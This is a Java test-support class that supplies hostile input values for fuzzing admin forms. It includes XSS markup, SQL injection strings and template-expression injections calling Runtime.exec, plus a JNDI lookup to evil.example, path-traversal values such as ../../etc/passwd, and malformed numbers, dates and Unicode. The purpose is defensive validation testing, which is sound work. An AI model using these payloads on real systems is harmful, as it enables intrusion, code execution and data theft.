package org.bilateral;

import java.util.ArrayList;
import java.util.Collections;
import java.util.List;

/**
 * What a careless or hostile person may type into any field, shared by the tests that
 * drive the admin forms with it: markup and attribute breakouts, SQL, template and
 * expression text, very long text, text whose slug outgrows its column, emoji, control,
 * direction-changing and invisible characters, dates PostgreSQL cannot store (or only in
 * another era), numbers that overflow or are written in other digits, and unknown ids.
 */
public final class HostileValues {

	/** A text of a given number of characters (code points) made of one character. */
	public static String repeat(String character, int count) {
		return String.join("", Collections.nCopies(count, character));
	}

	private static final List<String> MARKUP = List.of("<script>alert(1)</script>", "\"><script>alert(1)</script>",
			"'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
			"<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
			"<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<a href=\"javascript:alert(1)\">x</a>",
			"javascript:alert(1)", "<iframe src=//evil.example></iframe>", "<!--", "-->", "<![CDATA[x]]>",
			"<style>*{display:none}</style>", "<base href=//evil.example/>",
			"<meta http-equiv=refresh content=0;url=//evil.example>", "&lt;script&gt;", "&amp;&quot;&#39;",
			"<b>bold</b>", "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x",
			"{{constructor.constructor('alert(1)')()}}", "<scr<script>ipt>alert(1)</script>", "%3Cscript%3E",
			"\\u003cscript\\u003e");

	private static final List<String> QUERIES = List.of("' OR '1'='1", "'; drop table visit; --",
			"1; delete from person", "\" OR \"\"=\"", "' UNION SELECT password_hash FROM app_user --", "admin'--",
			"1' AND sleep(5) --", "$$; select pg_sleep(5); $$", "\\'; select 1; --", "%", "_", "% OR 1=1", "\\", "\\\\",
			"'", "\"", "`", ";", "--");

	private static final List<String> EXPRESSIONS = List.of("${7*7}", "#{7*7}", "*{7*7}", "@{/admin}", "~{error}",
			"__${7*7}__", "[[${7*7}]]", "[(${7*7})]", "${T(java.lang.Runtime).getRuntime().exec('id')}",
			"#{T(java.lang.System).exit(0)}", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "{{7*7}}",
			"<%= 7*7 %>", "${{7*7}}", "#{'a'.concat('b')}", "${@environment}", "${#ctx}", "%{7*7}", "{0}",
			"{1,choice,0#x}", "${jndi:ldap://evil.example/a}");

	private static final List<String> LENGTHS = List.of(repeat("x", 100), repeat("x", 101), repeat("x", 200),
			repeat("x", 201), repeat("x", 300), repeat("x", 301), repeat("x", 500), repeat("x", 501), repeat("x", 2000),
			repeat("x", 2001), repeat("x", 10_000), repeat("x", 10_001), repeat("x", 100_000),
			repeat("\ud83d\ude00", 100), repeat("\ud83d\ude00", 200), repeat("\ud83d\ude00", 201),
			repeat("\ud83d\ude00", 300), repeat("\ud83d\ude00", 301), repeat("\u00e9", 300), repeat("\u0416", 201),
			repeat("\u4e2d", 300), repeat("&", 76), repeat("& ", 150), repeat("a & ", 60),
			repeat("Word ", 59) + "Lastwordthatdoesnotfit", repeat("&", 160), repeat("ab&", 100),
			repeat("\ud800\udf48", 150), repeat("-", 300), repeat(" ", 50) + "x");

	private static final List<String> CHARACTERS = List.of("Hostile\u0000name", "\u0000", "Bell\u0007name",
			"Escape\u001b[31mred", "Line\nbreak", "Carriage\r\nreturn", "Tab\tname", "Trailing spaces   ",
			"   Leading spaces", "\u202eevil\u202c", "Abc\u202dxyz\u202c", "\u202aembedded\u202c",
			"\u202bembedded\u202c", "\u2066isolated\u2069", "\u2067isolated\u2069", "\u2068isolated\u2069",
			"Mark\u200e", "Mark\u200f", "Mark\u061c", "Zero\u200bwidth", "Zero\u200cwidth", "Zero\u200dwidth",
			"Word\u2060joiner", "\ufeffByte order mark", "Soft\u00adhyphen", "Hangul\u3164filler", "Ka\u0301zakhstan",
			"Z\u0337\u0321a\u0328\u035dl\u0336g\u0334o", "\ud83c\udde6\ud83c\uddf7",
			"\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67", "\u05d1\u05d9\u05e7\u05d5\u05e8",
			"\u0632\u064a\u0627\u0631\u0629 \u0631\u0633\u0645\u064a\u0629",
			"\u049a\u0430\u0437\u0430\u049b\u0441\u0442\u0430\u043d",
			"\u0410\u0440\u0433\u0435\u043d\u0442\u0438\u043d\u0430", "\u00e1rbol \u00f1and\u00fa", "\u2028separator",
			"\u0085next line", "\ufffd", "\ufffe", "\uffff", "Dz\u01c5", "\u0130stanbul", "\u00df", "\ufb01", "\u2126",
			"\u212b", "\uff21\uff32", "\ud835\udc00\ud835\udc01", "\u3000ideographic space",
			"\u00a0no-break space\u00a0", "\u2003em space");

	private static final List<String> NUMBERS = List.of("0x1", "0X10", "+1", "-1", "-0", "0", "00", "0001", "1e3",
			"1E-3", "1.5", "1,5", "1_000", "1 000", " 1 ", "\u0661", "\u0662\u0660\u0661\u0669",
			"\u06f2\u06f0\u06f1\u06f9", "\u0967", "\uff11\uff12", "\u00b9", "\u2460", "\u0e51", "1\u0661", "2147483647",
			"2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "-9223372036854775809",
			"99999999999999999999999999999", repeat("9", 101), "1" + repeat("0", 13), "9999999999999.9",
			"99999999999999.9", "0.05", "0.1", "26.4", ".5", "5.", "-26.4", "NaN", "Infinity", "-Infinity", "1/2", "#1",
			"1L", "1d", "0b1", "017", "999999", "-5", "1 or 1=1", "1,2", "1;2", "true", "null", "undefined", "[]",
			"{}");

	private static final List<String> DATES = List.of("+99999999-01-01", "-999999999-01-01", "+5874898-01-01",
			"-4714-11-23", "-584540076-01-01", "-0001-01-01", "0000-01-01", "0001-01-01", "9999-12-31", "+10000-01-01",
			"10000-01-01", "2019-02-29", "2020-02-29", "2019-13-01", "2019-00-10", "2019-1-1", "19-01-01", "2019/01/01",
			"01.01.2019", "2019-01-01T00:00", "+999999999-12-31T23:59", "-999999999-01-01T00:00", "0000-01-01T00:00",
			"9999-12-31T23:59", "2019-01-01T24:00", "2019-01-01T23:60", "2019-01-01T10:30:00", "2019-01-01T10:30Z",
			"2019-01-01 10:30", "1000", "2200", "999", "2201", "1899", "1900", "-2019", "yesterday");

	private static final List<String> CHOICES = List.of("999999999", "NOT_A_KIND", "VISIT", "PRINCIPAL", "IN_FORCE",
			"ADMIN", "EDITOR", "XX", "KZ", "AR", "kz", "K", "KZA", "", "   ", "../../etc/passwd", "..%2f..%2f",
			"file:///etc/passwd", "a-b-c", "UPPER-slug", "slug--double", "-leading", "trailing-", "\u00fcml\u00e4ut",
			"http://evil.example", "https://example.org/\" onmouseover=alert(1) x=\"",
			"https://example.org/" + repeat("a", 2000), "https://exa mple.org", "HTTPS://EXAMPLE.ORG",
			"data:text/html,x", "vbscript:x", "//evil.example", "https://example.org/<script>");

	/** Every hostile value, each once. */
	public static final List<String> ALL;

	static {
		List<String> all = new ArrayList<>();
		for (List<String> group : List.of(MARKUP, QUERIES, EXPRESSIONS, LENGTHS, CHARACTERS, NUMBERS, DATES, CHOICES)) {
			all.addAll(group);
		}
		ALL = List.copyOf(all);
	}

	private HostileValues() {
	}

}
